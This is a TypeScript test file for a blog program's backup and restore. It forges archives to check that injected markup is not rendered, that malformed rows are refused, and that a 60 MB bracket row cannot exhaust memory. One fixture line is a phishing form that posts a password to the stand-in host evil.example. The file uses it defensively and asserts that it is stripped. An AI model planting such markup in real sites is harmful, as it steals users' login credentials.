import assert from 'node:assert/strict';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { RENDERER } from '../../../src/text/rendered.ts';
import { changeArchive } from '../../support/archive-file.ts';
import { commentsOn, newComment } from '../../support/comments.ts';
import { done, SECRET } from '../../support/processes/earlier-archive.ts';
import { newPlace, stop } from '../../support/processes/trouble.ts';
import { serveHere } from '../../support/server.ts';
import { createVisitor } from '../../support/visitor.ts';

const RAW = '<form action="https://evil.example">Log in again <input name="password"></form>';
/** As many as make a parser take more than a gigabyte. */
const BRACKETS = 60 * 1024 * 1024;

/** An archive of a blog in which Bob mentions Ann, who has a draft. */
const place = await newPlace({ after });
const saved = join(place.folder, 'saved.tar');
const server = await place.start(SECRET);
const [ann, bob] = [await server.person('Ann'), await server.person('Bob')];
const post = await server.post(ann.token);
const comment = await newComment(server, bob.token, post.id, { content: '**Hello** @Ann' });
const draft = { title: 'Soup', content: 'Leeks', tags: ['soup'] };
await server.api('POST', '/api/drafts', { token: ann.token, json: draft });
await stop(server);
await done(place, ['backup', saved], SECRET);

type Change = (row: Record<string, unknown>) => object;

/** An archive like that one, whose rows of a table are others; its checksums are correct. */
async function forge(
  name: string,
  changes: Record<string, Change>,
  header: object = {},
): Promise<string> {
  const file = join(place.folder, `${name}.tar`);
  await changeArchive(saved, file, ({ name, bytes }) => {
    const [, table = ''] = name.split('/');
    const change =
      name === 'masthead.json' ? (row: object) => ({ ...row, ...header }) : changes[table];
    if (!change) return bytes;
    const lines = bytes.toString().trimEnd().split('\n');
    return Buffer.from(
      lines.map((line) => `${JSON.stringify(change(JSON.parse(line)))}\n`).join(''),
    );
  });
  return file;
}

const forged: Record<string, [Change, object]> = {
  'of this program': [(row) => ({ ...row, html: RAW + String(row['html']) }), {}],
  'of a program that also saved who rendered it': [
    (row) => ({ ...row, html: RAW + String(row['html']), renderer: RENDERER }),
    { format: 1 },
  ],
};

for (const [what, [change, header]] of Object.entries(forged)) {
  test(`no markup of an archive ${what} is shown, but it is restored and verified`, async (t) => {
    const file = await forge('markup', { comments: change }, header);
    await done(place, ['backup', '--verify', file], SECRET);
    const other = await newPlace(t);
    await done(other, ['restore', file], SECRET);
    await using restored = await serveHere(other, SECRET);
    const [found] = await commentsOn(restored, post.id);
    assert.equal(found?.html, comment.html);
    assert.match(comment.html, /<strong>Hello<\/strong> <a class="mention"/);
    const { text } = await createVisitor(restored.url).get(`/posts/${post.id}`);
    assert.match(text, /<strong>Hello<\/strong>/);
    assert.doesNotMatch(text, /evil/);
  });
}

test('rows that the program could not read are refused in one line, and the blog stays empty', async (t) => {
  const file = await forge('tags', { drafts: (row) => ({ ...row, tags: 'soup' }) });
  const other = await newPlace(t);
  for (const args of [
    ['restore', file],
    ['backup', '--verify', file],
  ]) {
    const { code, output } = await other.run(args, SECRET);
    assert.equal(code, 1);
    const line =
      /^(?:Restoring: [^\n]+\n)*masthead: \S+ cannot be restored: its rows are refused \(tags of the row \[1\] of drafts is not a list of texts as JSON\)\. The blog is still empty\n$/;
    assert.match(output, line);
  }
  await done(other, ['restore', saved], SECRET);
});

test('a row of 60 MB of brackets is refused in little memory', async (t) => {
  const file = join(place.folder, 'brackets.tar');
  await changeArchive(saved, file, ({ name, bytes }) =>
    name.startsWith('rows/posts/') ? Buffer.alloc(BRACKETS, '[').fill('\n', BRACKETS - 1) : bytes,
  );
  const other = await newPlace(t);
  const small = { ...SECRET, NODE_OPTIONS: '--max-old-space-size=256' };
  const { code, output } = await other.run(['restore', file], small);
  assert.deepEqual([code, /\(not a row of posts\)/.test(output)], [1, true], output);
});
